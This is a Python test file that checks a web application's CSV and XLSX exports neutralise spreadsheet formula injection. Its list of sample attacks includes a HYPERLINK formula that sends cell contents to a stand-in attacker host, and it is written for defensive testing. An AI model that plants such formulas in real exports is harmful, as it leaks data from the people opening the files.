"""Downloads of tables neutralise formulas (OWASP CSV injection), and every
export goes through core.exports."""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import DANGEROUS_START, csv_text, safe_cell, table_response, xlsx_bytes
from core.tests.test_time_is_input import ROOT, product_files

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_as_a_formula_is_made_text(attack):
    assert safe_cell(attack) == "'" + attack
    text = csv_text(["team"], [[attack]])
    [_header, [cell]] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert cell == "'" + attack


def test_numbers_stay_numbers_with_a_decimal_comma():
    text = csv_text(["a", "b", "c"], [[Decimal("-1.5"), 7, "gewoon"]])
    assert text.splitlines()[1] == "-1,5;7;gewoon"
    assert text.startswith("\ufeff")


@given(st.text())
def test_no_text_reaches_a_spreadsheet_as_a_formula(text):
    cell = safe_cell(text)
    assert not str(cell).startswith(DANGEROUS_START)
    assert str(cell).removeprefix("'") == text or cell == text


def test_xlsx_cells_are_text_not_formulas():
    workbook = load_workbook(io.BytesIO(xlsx_bytes(["team"], [[ATTACKS[0]], [Decimal("6.8")]])))
    sheet = workbook.active
    assert sheet["A2"].value == "'" + ATTACKS[0]
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == 6.8


def test_download_is_named_and_never_cached():
    response = table_response("Resultaten 3A", ["x"], [[1]], fmt="xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="resultaten-3a.xlsx"'
    assert "no-store" in response["Cache-Control"]


def test_every_export_goes_through_core_exports():
    """The guard: no other product module writes CSV or XLSX itself."""
    pattern = re.compile(r"\bimport csv\b|csv\.writer|content_type=.?text/csv|openpyxl|xlsxwriter")
    offenders = [
        str(path.relative_to(ROOT))
        for path in product_files()
        if path.name != "exports.py" and pattern.search(path.read_text())
    ]
    assert not offenders, offenders
